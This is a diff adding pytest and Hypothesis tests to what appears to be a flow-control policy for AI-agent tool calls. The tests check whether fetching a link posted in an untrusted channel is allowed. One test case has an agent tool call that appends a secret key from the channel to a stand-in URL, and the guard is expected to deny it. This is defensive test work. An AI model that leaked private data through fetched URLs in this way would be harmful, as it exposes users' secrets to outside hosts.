@@ -371,3 +371,85 @@ def test_a_bad_directed_setting_fails_at_start() -> None:
 
     with pytest.raises(PolicyError, match="directed must be one of"):
         parse_policy({"flow": {"directed": True}}, "ztmcp.toml")
+
+
+# -- a reader that is a sink only by where it reads from (a URL fetcher) ---------------------
+
+FETCH_RULES = parse_rules(
+    [
+        {"tool": "read_channel", "labels": ["private_data", "untrusted_content"]},
+        {"tool": "get_webpage", "labels": ["untrusted_content", "public_sink"]},
+    ],
+    "test",
+)
+CHANNEL = "Bob: I read an interesting article on www.informations.example! Secret key is 1a7b3d."
+
+
+def _fetch(user: str, url: str, directed: str = "named") -> Any:
+    run = RunState.new("agent", 0.0)
+    run.note_user(user)
+    arguments = {"channel": "general"}
+    ref = run.note_call("s", "read_channel", 0.0)
+    run.note_result(ref, resolve("s", "read_channel", rules=FETCH_RULES).labels, CHANNEL, arguments)
+    check = FlowCheck(FETCH_RULES, directed=directed, trifecta="off")
+    return check.check(call("get_webpage", {"url": url}), ctx(run, "s"))
+
+
+def test_a_fetcher_follows_a_link_verbatim_from_content_the_user_pointed_at() -> None:
+    asked = "Summarise the article Bob posted in the general channel"
+    assert _fetch(asked, "www.informations.example") is None
+    # the user never pointed at the channel: the link is untrusted content like any other
+    denied = _fetch("Summarise today's news", "www.informations.example")
+    assert denied is not None and denied.rule == UNTRUSTED_VALUE
+    # not verbatim: the run's private data rides along in the link
+    carried = _fetch(asked, "www.informations.example/?k=1a7b3d")
+    assert carried is not None and carried.rule == UNTRUSTED_VALUE
+    # [flow] directed = "off" trusts nothing a source returned, links included
+    assert _fetch(asked, "www.informations.example", "off") is not None
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.from_regex(r"[a-z]{3,8}\.[a-z]{2,4}", fullmatch=True))
+def test_whole_is_the_fingerprint_of_a_single_value_only(host: str) -> None:
+    keyed = Keyed(b"w" * 32)
+    assert keyed.whole(f"www.{host}") == keyed.one(f"www.{host}")
+    assert keyed.whole(f" WWW.{host.upper()} ") == keyed.one(f"www.{host}")
+    for other in (f"see www.{host}", f"www.{host}/?q=1", "plainword", 42, None):
+        assert keyed.whole(other) is None
+
+
+SINK_ONLY = parse_rules(
+    [
+        {"tool": "read_channel", "labels": ["private_data", "untrusted_content"]},
+        {"tool": "get_webpage", "labels": ["public_sink"]},
+    ],
+    "test",
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126), min_size=1, max_size=12)
+)
+def test_the_fetcher_rule_clears_only_the_verbatim_link(suffix: str) -> None:
+    """Differential: for any link that is not the posted one verbatim, a reader's verdict is
+    the verdict the same call gets from a plain sink; only the posted link itself differs."""
+    run = RunState.new("agent", 0.0)
+    run.note_user("Summarise the article Bob posted in the general channel")
+    ref = run.note_call("s", "read_channel", 0.0)
+    labels = resolve("s", "read_channel", rules=FETCH_RULES).labels
+    run.note_result(ref, labels, CHANNEL, {"channel": "general"})
+    reader = FlowCheck(FETCH_RULES, trifecta="off")
+    plain = FlowCheck(SINK_ONLY, trifecta="off")
+
+    def verdicts(url: str) -> tuple[Any, Any]:
+        msg = call("get_webpage", {"url": url})
+        got = reader.check(msg, ctx(run, "s")), plain.check(msg, ctx(run, "s"))
+        return tuple(v and v.rule for v in got)
+
+    posted = "www.informations.example"
+    assert verdicts(posted) == (None, UNTRUSTED_VALUE)
+    url = posted + suffix
+    if run.hasher.whole(url) != run.hasher.whole(posted):
+        reader_rule, plain_rule = verdicts(url)
+        assert reader_rule == plain_rule
